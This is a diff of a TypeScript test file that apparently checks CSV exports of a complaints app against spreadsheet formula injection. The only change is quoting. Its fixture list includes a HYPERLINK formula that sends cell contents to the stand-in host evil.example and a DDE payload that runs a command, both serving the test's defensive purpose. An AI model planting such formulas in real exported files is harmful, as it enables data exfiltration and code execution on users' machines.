@@ -8,7 +8,7 @@ import { filing, fileVia } from '../helpers/complaints.js';
 import { DEMO, signedIn, type ApiClient } from '../helpers/http.js';
 import { freshWorld, startTestServer, type TestServer } from '../helpers/server.js';
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
 
 /** The cells of a CSV text (quoted cells may hold commas, quotes and line breaks). */
 function cells(csv: string): string[] {
